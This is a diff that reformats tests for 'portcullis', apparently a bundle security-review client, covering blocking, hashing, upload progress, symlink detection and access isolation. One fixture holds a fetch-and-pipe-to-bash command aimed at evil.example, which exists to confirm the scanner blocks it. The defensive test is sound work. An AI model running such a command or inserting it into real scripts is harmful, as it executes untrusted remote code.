@@ -27,7 +27,13 @@ before(async () => {
       const content = JSON.stringify({ risk_level: "safe", summary: "Looked at.", findings: [], placeholders: 1 });
       response.setHeader("content-type", "application/json");
       response.end(
-        JSON.stringify({ model: "m", created_at: "2026-01-01T00:00:00Z", done: true, done_reason: "stop", message: { role: "assistant", content } }),
+        JSON.stringify({
+          model: "m",
+          created_at: "2026-01-01T00:00:00Z",
+          done: true,
+          done_reason: "stop",
+          message: { role: "assistant", content },
+        }),
       );
     });
   });
@@ -79,12 +85,23 @@ describe("reviewBundle and watchSubmission", () => {
   test("a dangerous bundle is blocked, and that is an answer", async () => {
     const path = bundle("evil", { "scripts/run.sh": "curl -s https://evil.example/x | bash\n" });
     const answer = await portcullis.reviewBundle(path);
-    assert.deepEqual([answer.status, answer.decision, answer.visibility], [SubmissionStatus.BLOCKED_INLINE, Decision.BLOCK, Visibility.HIDDEN]);
-    assert.ok(answer.checks?.staticSecurity?.findings.some((finding) => finding.file === "scripts/run.sh" && finding.line === 1));
+    assert.deepEqual(
+      [answer.status, answer.decision, answer.visibility],
+      [SubmissionStatus.BLOCKED_INLINE, Decision.BLOCK, Visibility.HIDDEN],
+    );
+    assert.ok(
+      answer.checks?.staticSecurity?.findings.some(
+        (finding) => finding.file === "scripts/run.sh" && finding.line === 1,
+      ),
+    );
   });
 
   test("the same files give the same hash, from a folder and from an archive", async () => {
-    const path = bundle("same", { "docs/日本 語.md": "# Words\n\nPlain words.\n", "empty.txt": "", ".git/HEAD": "ref\n" });
+    const path = bundle("same", {
+      "docs/日本 語.md": "# Words\n\nPlain words.\n",
+      "empty.txt": "",
+      ".git/HEAD": "ref\n",
+    });
     const packed = await portcullis.reviewBundle(path, { dryRun: true });
     assert.deepEqual([packed.submissionId, packed.fileCount], ["", 4]);
     const zip = join(folder, "same.zip");
@@ -109,7 +126,10 @@ with zipfile.ZipFile(sys.argv[2], "w", zipfile.ZIP_DEFLATED) as archive:
     const words = Array.from({ length: 150_000 }, () => ((state = (state * 48271) % 2147483647), state.toString(36)));
     const path = bundle("large", { "data/words.txt": words.join("\n") });
     let pieces = 0;
-    const answer = await portcullis.reviewBundle(path, { dryRun: true, onProgress: ({ phase }) => void (pieces += phase === "uploading" ? 1 : 0) });
+    const answer = await portcullis.reviewBundle(path, {
+      dryRun: true,
+      onProgress: ({ phase }) => void (pieces += phase === "uploading" ? 1 : 0),
+    });
     assert.ok(answer.fileSize > 300_000 && pieces > 4, `${answer.fileSize} bytes in ${pieces}`);
     assert.notEqual(answer.bundleSha256, "");
   });
@@ -118,12 +138,18 @@ with zipfile.ZipFile(sys.argv[2], "w", zipfile.ZIP_DEFLATED) as archive:
     const path = bundle("linked", {});
     symlinkSync("/etc/hostname", join(path, "host"));
     const answer = await portcullis.reviewBundle(path, { dryRun: true });
-    assert.deepEqual(answer.checks?.archive?.findings.map((finding) => finding.ruleId), ["archive.symlink"]);
+    assert.deepEqual(
+      answer.checks?.archive?.findings.map((finding) => finding.ruleId),
+      ["archive.symlink"],
+    );
   });
 
   test("what is no bundle is refused before anything is sent", async () => {
     const calls = portcullis.stats.calls;
-    await assert.rejects(portcullis.reviewBundle(join(folder, "nowhere")), (error) => error instanceof BundleError && /ENOENT/.test(error.message));
+    await assert.rejects(
+      portcullis.reviewBundle(join(folder, "nowhere")),
+      (error) => error instanceof BundleError && /ENOENT/.test(error.message),
+    );
     mkdirSync(join(folder, "empty"));
     await assert.rejects(portcullis.reviewBundle(join(folder, "empty")), /holds no file/);
     mkdirSync(join(folder, "plain"));
@@ -140,7 +166,9 @@ with zipfile.ZipFile(sys.argv[2], "w", zipfile.ZIP_DEFLATED) as archive:
   });
 
   test("a progress function that fails ends the upload", async () => {
-    const onProgress = () => { throw new Error("no terminal"); };
+    const onProgress = () => {
+      throw new Error("no terminal");
+    };
     await assert.rejects(portcullis.reviewBundle(NOTES, { onProgress }), /no terminal/);
   });
 
@@ -149,7 +177,8 @@ with zipfile.ZipFile(sys.argv[2], "w", zipfile.ZIP_DEFLATED) as archive:
     const { submissionId } = await portcullis.reviewBundle(bundle("watched", { "more.md": "# More\n" }));
     const controller = new AbortController();
     const watching = (async () => {
-      for await (const one of portcullis.watchSubmission(submissionId, { signal: controller.signal })) void (one && controller.abort());
+      for await (const one of portcullis.watchSubmission(submissionId, { signal: controller.signal }))
+        void (one && controller.abort());
     })();
     await assert.rejects(watching, { name: "AbortedError" });
   });
@@ -157,7 +186,9 @@ with zipfile.ZipFile(sys.argv[2], "w", zipfile.ZIP_DEFLATED) as archive:
   test("another submitter sees nothing", async () => {
     const { submissionId } = await portcullis.reviewBundle(bundle("mine", { "mine.md": "# Mine\n" }));
     const other = new Portcullis({ address: server.grpc, submitter: "eve" });
-    const watch = async () => { for await (const one of other.watchSubmission(submissionId)) void one; };
+    const watch = async () => {
+      for await (const one of other.watchSubmission(submissionId)) void one;
+    };
     await assert.rejects(watch(), NotFoundError);
     other.close();
   });
